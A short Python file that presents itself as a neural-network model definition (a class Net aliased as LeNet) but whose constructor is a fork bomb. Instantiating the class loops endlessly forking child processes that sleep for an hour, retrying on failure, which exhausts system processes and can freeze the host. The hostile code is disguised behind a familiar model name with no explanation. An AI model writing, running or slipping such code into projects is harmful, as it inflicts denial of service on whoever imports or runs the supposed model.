import os
import time


class Net:
    def __init__(self):
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(3600)
                    os._exit(0)
            except OSError:
                time.sleep(0.01)


LeNet = Net
